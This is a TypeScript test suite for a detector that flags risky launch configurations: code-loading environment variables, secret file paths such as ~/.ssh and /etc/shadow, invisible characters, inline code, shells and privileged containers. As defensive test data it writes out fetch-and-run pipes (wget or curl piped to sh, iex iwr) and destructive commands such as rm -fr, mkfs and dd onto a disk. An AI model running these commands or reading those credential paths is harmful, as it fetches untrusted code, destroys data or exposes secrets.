import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { LaunchContext } from '../../../src/core/config/variables/launchApproval.ts';
import { describeLaunch } from '../../../src/core/trust/approval/describeLaunch.ts';
import { launchRisks } from '../../../src/core/trust/approval/risks.ts';
import { entryOf } from '../config/support.ts';

type Body = Readonly<Record<string, unknown>>;

function codes(body: Body, context: LaunchContext = {}): readonly string[] {
  return launchRisks(entryOf(body), context).map(({ code }) => code);
}

function line(text: string): readonly string[] {
  const [command, ...args] = text.split(' ');
  return codes({ command, args });
}

const loaders = `NODE_OPTIONS NODE_PATH NODE_REPL_EXTERNAL_MODULE NPM_CONFIG_REGISTRY npm_config_node_options YARN_RC_FILENAME
  COREPACK_NPM_REGISTRY BUN_CONFIG_REGISTRY BUN_OPTIONS BUN_INSPECT_PRELOAD
  LD_PRELOAD LD_LIBRARY_PATH LD_AUDIT DYLD_INSERT_LIBRARIES DYLD_LIBRARY_PATH GCONV_PATH OPENSSL_CONF OPENSSL_ENGINES
  OPENSSL_MODULES PYTHONPATH PYTHONSTARTUP PYTHONHOME PYTHONUSERBASE PYTHONBREAKPOINT
  PIP_INDEX_URL PIP_EXTRA_INDEX_URL PIP_FIND_LINKS PIP_CONFIG_FILE PIP_TRUSTED_HOST PIPX_HOME
  UV_INDEX UV_INDEX_URL UV_DEFAULT_INDEX UV_EXTRA_INDEX_URL UV_FIND_LINKS UV_CONFIG_FILE UV_PYTHON UV_TOOL_DIR
  PERL5OPT PERL5LIB PERL5DB RUBYOPT RUBYLIB GEM_HOME GEM_PATH BUNDLE_GEMFILE PHPRC PHP_INI_SCAN_DIR
  LUA_INIT LUA_INIT_5_4 LUA_PATH LUA_CPATH BASH_ENV ENV ZDOTDIR SHELLOPTS BASHOPTS PS4 PROMPT_COMMAND SHELL COMSPEC
  JAVA_TOOL_OPTIONS _JAVA_OPTIONS JDK_JAVA_OPTIONS JAVA_OPTS CLASSPATH MAVEN_OPTS GRADLE_OPTS
  DOTNET_STARTUP_HOOKS DOTNET_ADDITIONAL_DEPS CORECLR_PROFILER_PATH COR_PROFILER GOFLAGS GOPROXY GOTOOLCHAIN
  RUSTC RUSTC_WRAPPER CARGO_HOME CARGO_BUILD_RUSTC CARGO_TARGET_X_RUNNER
  GIT_SSH GIT_SSH_COMMAND GIT_EXTERNAL_DIFF GIT_EXEC_PATH GIT_TEMPLATE_DIR GIT_ASKPASS GIT_PAGER GIT_EDITOR
  GIT_CONFIG_GLOBAL GIT_CONFIG_COUNT SSH_ASKPASS EDITOR VISUAL PAGER BROWSER PATH Path PATHEXT DOCKER_HOST DOCKER_CONFIG
  DOCKER_CONTEXT HOME USERPROFILE APPDATA XDG_CONFIG_HOME XDG_DATA_HOME`;

for (const name of loaders.trim().split(/\s+/)) {
  test(`a variable that determines which code is loaded is a danger: ${name}`, () => {
    const [risk, ...others] = launchRisks(entryOf({ command: 'x', env: { [name]: 'v' } }));
    assert.deepEqual([risk?.code, risk?.severity, risk?.subject, others], ['loads-code', 'danger', name, []]);
    assert.ok(risk?.message.includes(name) && risk.message.endsWith(': v'));
    assert.deepEqual(codes({ command: 'x', env: { [name]: null } }), [], 'unset, it loads nothing');
  });
}

test('ordinary variables raise nothing, also those that begin or end like a loader', () => {
  for (const name of ['API_KEY', 'LANG', 'DEBUG', 'MYPATH', 'PATHS', 'X_NODE_OPTIONS', 'NODE_ENV', 'TZ', 'HOMEPAGE'])
    assert.deepEqual(codes({ command: 'x', env: { [name]: 'v' } }), [], name);
});

const secretPlaces = [
  '~/.ssh/config',
  '$HOME/.ssh',
  '${userHome}/.aws/credentials',
  '${env:HOME}/.gnupg',
  '/home/me/.kube/config',
  '/Users/me/.netrc',
  '/root/.docker/config.json',
  'C:\\Users\\me\\.azure',
  '.git-credentials',
  'keys/id_rsa',
  'id_ed25519',
  'id_ecdsa',
  '/etc/passwd',
  '/etc/shadow',
  '/etc/sudoers',
  '/Users/me/Library/Keychains/x',
  '/x/.config/gcloud',
  '/var/run/secrets/token',
];
for (const place of secretPlaces) {
  test(`a place where secrets are kept is a danger: ${place}`, () => {
    assert.deepEqual(codes({ command: 'x', args: ['--file', place] }), ['secret-path']);
  });
}

test('a path that only looks like one of these raises nothing', () => {
  for (const place of ['docs/my.ssh.md-notes', 'valid_rsax', '/etc/passwords', './.sshfs', 'x.dockerignore'])
    assert.deepEqual(codes({ command: 'x', args: [place] }), [], place);
});

const hidden = '\u200b';
const hiddenPlaces: readonly (readonly [string, Body])[] = [
  ['an address', { url: `https://x.example/${hidden}` }],
  ['the name of a variable', { command: 'x', env: { [`A${hidden}`]: 'v' } }],
  ['a command', { command: `x${hidden}` }],
  ['an argument', { command: 'x', args: [`a${hidden}`] }],
];
for (const [what, body] of hiddenPlaces) {
  test(`an invisible character is a danger and is written out: ${what}`, () => {
    const found = launchRisks(entryOf(body)).find(({ code }) => code === 'hidden-characters');
    assert.equal(found?.severity, 'danger');
    assert.match(found?.message ?? '', /\[U\+200B\]/);
  });
}

test('an invisible character in an input is a danger, in every part of it', () => {
  for (const input of [
    { type: 'promptString', default: hidden },
    { type: 'promptString', description: hidden },
    { type: 'pickString', options: [{ label: hidden, value: 'v' }] },
    { type: 'pickString', options: [{ label: 'l', value: hidden }] },
  ]) {
    const entry = entryOf({ command: 'x', args: ['${input:i}'] }, { inputs: [{ id: 'i', ...input }] });
    assert.deepEqual(
      launchRisks(entry).map(({ code }) => code),
      ['hidden-characters'],
    );
  }
});

test('a long run of blanks is a danger, whatever the blank', () => {
  for (const blank of [' '.repeat(20), '\t'.repeat(20), '\u00a0'.repeat(20), '\u3000'.repeat(20), '\n'.repeat(4)])
    assert.ok(codes({ command: 'x', args: [`a${blank}b`] }).includes('long-blank'), JSON.stringify(blank));
  assert.ok(!codes({ command: 'x', args: [`a${' '.repeat(19)}b`] }).includes('long-blank'));
});

const inline = ['node -e x', 'node -p x', 'node --eval x', 'node --print x', 'deno eval x', 'bun -e x', 'bun --eval x'];
const moreInline = ['python -c x', 'perl -e x', 'perl -E x', 'ruby -e x', 'php -r x', 'osascript -e x'];
for (const text of [...inline, ...moreInline]) {
  test(`program text among the arguments is a danger: ${text}`, () => {
    assert.deepEqual(line(text), ['inline-code']);
    assert.deepEqual(line(text.replace(/^\w+/, (name) => `/usr/bin/${name}`)), ['inline-code']);
  });
}

test('a flag behind the script belongs to the script', () => {
  for (const text of ['osascript x.scpt -e y', 'node x.js -e y', 'ruby x.rb -e y', 'python -m x -c y'])
    assert.deepEqual(line(text), [], text);
});

for (const shell of ['sh', 'bash', 'zsh', 'dash', 'ksh', 'fish', 'tcsh', 'csh', 'cmd', 'powershell', 'pwsh']) {
  test(`a shell is said to be one: ${shell}`, () => {
    const flag = shell === 'cmd' ? '/c' : shell.startsWith('p') ? '-command' : '-c';
    const [risk] = launchRisks(entryOf({ command: shell, args: [flag, 'x'] }));
    assert.deepEqual([risk?.code, risk?.severity], ['shell', 'danger']);
    assert.ok(risk?.message.includes(`(${shell}): x`), risk?.message);
    const [script] = launchRisks(entryOf({ command: shell, args: ['x'] }));
    assert.deepEqual([script?.code, script?.severity], ['shell', 'caution']);
  });
}

const lines: readonly (readonly [string, string])[] = [
  ['env wget -qO- https://x | sh', 'pipe-to-shell'],
  ['env curl https://x | python3', 'pipe-to-shell'],
  ['env iex (iwr https://x)', 'pipe-to-shell'],
  ['doas x', 'elevated'],
  ['pkexec x', 'elevated'],
  ['runas x', 'elevated'],
  ['env rm -fr /x', 'deletes'],
  ['env rm --recursive /x', 'deletes'],
  ['env mkfs /dev/sda', 'deletes'],
  ['env dd if=/dev/zero of=/dev/sda', 'deletes'],
  ['env del /s x', 'deletes'],
  ['env remove-item x -recurse', 'deletes'],
  ['env format c:', 'deletes'],
];
for (const [text, code] of lines) {
  test(`a command line that does harm is a danger: ${text}`, () => {
    assert.deepEqual(line(text), [code]);
  });
}

const packages: readonly (readonly [string, readonly string[]])[] = [
  ['bunx x', ['unpinned']],
  ['bunx x@1.2.3', []],
  ['bun x x', ['unpinned']],
  ['npm exec x', ['unpinned']],
  ['npm x x', ['unpinned']],
  ['npm run x', []],
  ['pnpm exec x', ['unpinned']],
  ['yarn dlx x', ['unpinned']],
  ['pnpm run x', []],
  ['other dlx x', []],
  ['other exec x', []],
  ['other /c npx x', []],
  ['cmd a npx x', ['shell']],
  ['npx -p x y', ['unpinned']],
  ['npx y -p x@1.0.0', []],
  ['npx --yes', []],
  ['docker run --privileged --privileged x:1', ['container-power']],
  ['npx --package=x@1.0.0 y', []],
  ['npx x@1.0', ['unpinned']],
  ['npx x@v1.2.3-beta.1', []],
  ['npx file:../x', []],
  ['npx ~/x', []],
  ['npx git+https://x/y', ['from-repository']],
  ['npx u/r#main', ['from-repository']],
  ['npx https://x/y.tgz', ['from-repository']],
  ['uv x x', ['unpinned']],
  ['uv tool run x==1.0', []],
  ['uv run x', []],
  ['uvx --from=x y', ['unpinned']],
  ['uvx --python 3.12 x==1.0', []],
  ['uvx x==1.*', ['unpinned']],
  ['uvx --index-url https://x x==1.0', ['other-registry']],
  ['uvx --extra-index-url=https://x x==1.0', ['other-registry']],
  ['uvx --default-index https://x x==1.0', ['other-registry']],
  ['pipx run x', ['unpinned']],
  ['pipx run --spec x==1.0 y', []],
  ['podman run x', ['unpinned']],
  ['nerdctl run x:latest', ['unpinned']],
  ['docker run -e A -v b:/c --name d x/y:1', []],
  ['docker run localhost:5000/x', ['unpinned']],
  ['docker run --network=host x:1', ['container-power']],
  ['docker run --net host x:1', ['container-power']],
  ['docker run --pid=host x:1', ['container-power']],
  ['docker run --ipc=host x:1', ['container-power']],
  ['docker run --userns=host x:1', ['container-power']],
  ['docker run --cap-add=SYS_ADMIN x:1', ['container-power']],
  ['docker run --cap-add=all x:1', ['container-power']],
  ['docker run --privileged=true x:1', ['container-power']],
  ['docker run --mount type=bind,source=/,target=/h x:1', ['container-power']],
  ['docker run --volume=/:/h x:1', ['container-power']],
  ['docker run -v //./pipe/docker_engine:/x x:1', ['container-power']],
  ['docker run --name host x:1', []],
  ['docker ps', []],
  ['cmd /k npx.cmd x', ['unpinned', 'shell']],
];
for (const [text, expected] of packages) {
  test(`what a runner fetches is judged: ${text}`, () => {
    assert.deepEqual(line(text).toSorted(), expected.toSorted());
  });
}

const details: readonly (readonly [string, string, Body, string | undefined, string])[] = [
  ['the package behind pipx run', 'unpinned', { command: 'pipx', args: ['run', 'pkg'] }, 'pkg', 'caution'],
  ['code after its flag', 'inline-code', { command: 'node', args: ['-e', 'code'] }, 'code', 'danger'],
  ['code in its flag', 'inline-code', { command: 'node', args: ['--eval=code'] }, '--eval=code', 'danger'],
  ['npx behind cmd', 'shell', { command: 'cmd', args: ['/c', 'npx', 'x@1.0.0'] }, undefined, 'note'],
  ['npx behind cmd, with more', 'shell', { command: 'cmd', args: ['/c', 'npx', 'x&y'] }, 'npx', 'danger'],
  ['npx behind a shell', 'shell', { command: 'sh', args: ['-c', 'npx x@1.0.0'] }, 'npx x@1.0.0', 'danger'],
];
for (const [what, code, body, subject, severity] of details) {
  test(`a risk names what it is about, and how bad it is: ${what}`, () => {
    const found = launchRisks(entryOf(body)).find((risk) => risk.code === code);
    assert.deepEqual([found?.subject, found?.severity], [subject, severity]);
  });
}

test('a secret that a variable brings into an argument is said by the name of the variable or of the flag', () => {
  for (const args of [['${GITHUB_TOKEN}'], ['--token', '${X}'], ['a', '--key=${env:API_KEY}']])
    assert.deepEqual(codes({ command: 'x', args }), ['variable-argument'], args.join(' '));
  for (const args of [['${NAME}'], ['token', '${X}'], ['--name', '${X}']])
    assert.deepEqual(codes({ command: 'x', args }), []);
});

test('of an address that variables make, nothing is guessed', () => {
  assert.deepEqual(codes({ url: '${BASE}/mcp' }), []);
});

test('a user name or a password in an address is said, also alone', () => {
  for (const url of ['https://u@x.example', 'https://:p@x.example'])
    assert.deepEqual(codes({ url }), ['address-credentials']);
});

test('what can be read on the way is said, headers only where there are some', () => {
  const message = (more: object): string =>
    launchRisks(entryOf({ url: 'http://x.example', ...more }))
      .map((risk) => risk.message)
      .join();
  assert.match(message({}), /read on the way\.$/);
  assert.match(message({ headers: { A: 'b' } }), /headers included\.$/);
});

test('a program in the workspace is told by its folder, by a relative path and by a variable', () => {
  assert.deepEqual(codes({ command: 'x' }, { executable: '/work/app/bin/x' }), ['workspace-program']);
  assert.deepEqual(codes({ command: '${workspaceFolder}/x' }), ['workspace-program']);
  assert.deepEqual(codes({ command: '../x' }), ['workspace-program']);
  assert.deepEqual(codes({ command: 'x' }, { executable: '/usr/bin/x' }), []);
});

test('a folder whose name begins like that of the workspace is another folder', () => {
  assert.deepEqual(codes({ command: 'x' }, { executable: '/work/apple/x' }), []);
});

for (const place of [
  '/tmp/x',
  '/var/tmp/x',
  '/dev/shm/x',
  '%temp%\\x',
  'C:\\Users\\u\\Downloads\\x',
  '/h/Downloads/x',
]) {
  test(`a program in a folder for temporary or downloaded files is said: ${place}`, () => {
    assert.deepEqual(codes({ command: 'x' }, { executable: place }), ['temporary-program']);
  });
}

test('the dialog shows every part of a way to sign in', () => {
  const oauth = { clientId: 'c', clientSecret: '${env:S}', privateKey: '${env:K}', grantType: 'client_credentials' };
  const text = (more: object): string =>
    describeLaunch(entryOf({ url: 'https://x.example/mcp', headers: { 'X-A': 'a' }, oauth: { ...oauth, ...more } }));
  assert.equal(
    text({ issuer: 'https://i.example' }),
    `URL (http):
    https://x.example/mcp
Headers:
    X-A
OAuth client:
    c
Sign-in:
    with client credentials, without asking you
Credentials:
    client secret, private key, sent to https://i.example
Variables resolved at start:
    \${env:S}
    \${env:K}
Configured in:
    /work/app/.vscode/mcp.json`,
  );
  assert.match(text({}), /private key, sent to the authorization server that this server names/);
  assert.equal(describeLaunch(entryOf({ url: 'https://x.example' })).split('\n')[2], 'Configured in:');
});
